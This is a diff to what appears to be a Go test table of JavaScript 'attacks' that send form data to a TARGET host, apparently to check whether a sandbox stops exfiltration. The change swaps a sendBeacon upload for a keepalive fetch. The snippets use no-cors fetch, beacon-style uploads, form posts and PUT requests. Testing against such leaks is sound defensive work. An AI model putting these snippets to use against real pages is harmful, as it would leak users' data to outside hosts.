@@ -84,10 +84,8 @@ const (
 
 var attacks = []attack{
 	{"uploads by fetch", upload + `await fetch(TARGET + '/results', {method: 'POST', mode: 'no-cors', body: form});`, plain},
-	// What is fetched after the beacon is answered after it.
-	{"uploads by a beacon", upload + `
-		navigator.sendBeacon(TARGET + '/results', form);
-		await fetch(TARGET + '/results/x', {mode: 'no-cors'});`, plain},
+	// As navigator.sendBeacon does, whose end a page cannot wait for.
+	{"uploads as a beacon", upload + `await fetch(TARGET + '/results', {method: 'POST', mode: 'no-cors', keepalive: true, body: form});`, plain},
 	{"uploads by a form", uploadByForm, leaves},
 	{"puts an object", `await fetch(TARGET + '/results/' + NAME, {method: 'PUT', body: 'x'});`, futile},
 	{"registers a command", register, futile},
